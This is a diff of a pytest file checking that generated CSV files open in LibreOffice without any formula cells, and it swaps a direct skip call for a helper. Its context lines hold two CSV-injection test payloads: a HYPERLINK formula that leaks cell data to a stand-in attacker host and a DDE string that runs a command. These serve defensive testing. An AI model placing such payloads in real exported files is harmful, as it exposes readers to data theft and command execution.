@@ -17,7 +17,7 @@ import pytest
 
 from generator.build.register import BuildOptions, build_register
 
-from conftest import FIXTURES, explain, run_cli
+from conftest import FIXTURES, explain, run_cli, skip_without
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 DDE = "-2+3+cmd|' /C calc'!A0"
@@ -120,7 +120,7 @@ def test_libreoffice_opens_every_csv_without_a_single_formula(files, tmp_path):
     """Open each CSV as LibreOffice does (headless import, formulas evaluated) and count formula cells: none."""
     office = shutil.which("soffice") or shutil.which("libreoffice")
     if office is None:
-        pytest.skip("LibreOffice (soffice) is not installed; apt install libreoffice-calc-nogui")
+        skip_without("soffice", "LibreOffice opens the CSVs as a reader would; apt install libreoffice-calc-nogui")
     sources = tmp_path / "csv"
     sources.mkdir()
     for index, (path, content) in enumerate(sorted(_csvs(files).items())):
